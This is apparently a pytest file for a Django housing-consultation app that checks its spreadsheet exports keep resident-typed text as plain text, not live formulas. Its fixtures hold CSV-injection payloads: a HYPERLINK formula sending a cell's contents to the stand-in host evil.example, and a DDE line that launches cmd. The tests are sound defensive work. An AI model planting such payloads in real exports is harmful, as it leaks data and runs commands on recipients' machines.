"""Issue 17: hostile text typed by residents or offices must reach the office's spreadsheet
as text, never as a live formula, in every export."""

import io
import re
import zipfile
from datetime import datetime

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from consult.models import Wish
from projects.models import RosterImport, SignoffStatus, Stage
from projects.services import signoffs as svc

from .. import factories as f
from ..roster.conftest import csv_bytes, row, upload
from ..signoffs.conftest import open_campaign
from ..wishes.conftest import make_wish

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看详情")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def content_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def formula_cells(content: bytes) -> int:
    """``<f>`` elements in every worksheet: what Excel would run."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return sum(
            len(re.findall(rb"<f[ >]", archive.read(name)))
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def all_values(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell.value for sheet in workbook.worksheets for line in sheet.iter_rows() for cell in line]


def assert_text_not_formula(response, expected):
    assert response.status_code == 200
    content = content_of(response)
    assert formula_cells(content) == 0
    values = all_values(content)
    for text in expected:
        assert text in values, f"{text!r} must come back as the same text"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="') and "filename*=UTF-8''" in disposition
    return content


def test_wish_export_writes_hostile_title_and_description_as_text(client, world):
    make_wish(world.compound, title=HYPERLINK, description=DDE, location="@A1", contact_name="-王")
    client.force_login(world.staff)
    response = client.get(reverse("consult:wish_export", args=[world.community.pk]))
    content = assert_text_not_formula(response, [HYPERLINK, DDE, "@A1", "-王"])
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    assert "提交时间" in header and "查看详情" not in header
    submitted = sheet.cell(row=2, column=header.index("提交时间") + 1)
    assert isinstance(submitted.value, datetime), "提交时间 is a date cell, not text"
    wish = Wish.objects.get()
    assert submitted.value == timezone.localtime(wish.submitted_at).replace(tzinfo=None, microsecond=0)
    phone = sheet.cell(row=2, column=header.index("联系电话") + 1)
    assert phone.value == "13912345678" and phone.number_format == "@"
    assert "%E6%84%BF%E6%9C%9B" in response["Content-Disposition"]  # 愿望 in the real file name


def test_sign_off_export_writes_concern_text_and_names_as_text(client, world):
    project = f.project(community=world.community, title="上下水改造", stage=Stage.CONSENT)
    project.buildings.set([world.building])
    campaign = open_campaign(project, world.staff)
    world.household.owner_names = HYPERLINK
    world.household.room = "0101"
    world.household.save()
    svc.signoff_record_status(
        campaign=campaign,
        household=world.household,
        status=SignoffStatus.CONCERNS,
        by=world.staff,
        concern_category="redecorated",
        concern_text=DDE,
    )
    client.force_login(world.staff)
    response = client.get(reverse("projects:signoff_export", args=[campaign.pk]))
    content = assert_text_not_formula(response, [HYPERLINK, DDE, "0101"])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    room = sheet.cell(row=2, column=header.index("房号") + 1)
    assert room.value == "0101" and room.number_format == "@"


def test_roster_export_writes_owner_names_as_text(client, world):
    world.household.owner_names = HYPERLINK
    world.household.save()
    client.force_login(world.staff)
    response = client.get(reverse("projects:roster_export", args=[world.community.pk]))
    content = assert_text_not_formula(response, [HYPERLINK])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet.cell(row=2, column=4).number_format == "@"  # room
    assert sheet.cell(row=2, column=9).number_format == "@"  # phone


def test_roster_error_sheet_writes_owner_names_as_text(client, world):
    client.force_login(world.staff)
    bad = row(owners=DDE, area="大约八十")  # refused for its area; the owner text comes back
    file = csv_bytes([bad, row(room="302", owners=HYPERLINK, area="-1")])  # CSV: the text as typed
    upload(client, world.community, file, name="roster.csv")
    roster_import = RosterImport.objects.latest("pk")
    response = client.get(reverse("projects:roster_errors", args=[roster_import.pk]))
    assert_text_not_formula(response, [DDE, HYPERLINK])
